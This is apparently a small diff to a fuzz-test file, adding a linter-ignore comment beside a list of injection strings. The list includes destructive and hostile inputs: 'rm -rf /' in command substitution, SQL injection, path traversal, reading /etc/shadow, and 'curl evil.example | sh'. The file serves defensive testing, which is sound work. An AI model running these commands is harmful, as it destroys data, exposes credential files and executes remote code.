@@ -85,6 +85,7 @@ const markup = pick(
 );
 const injection = pick(
   '$(rm -rf /)', '`rm -rf /`', '; DROP TABLE jobs;--', "' OR '1'='1", '../../etc/passwd', '..\\..\\windows', '{{.Run.ID}}', '{{ .Values.secret }}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell-style ${HOME} is one of the injections tried
   '${HOME}', '%0a', '\n/acr build', '| cat /etc/shadow', '&& curl evil.example | sh', '<script>alert(1)</script>', '*bold* _it_ ~s~ `code`', '```block```',
 );
 const longTokens = fc
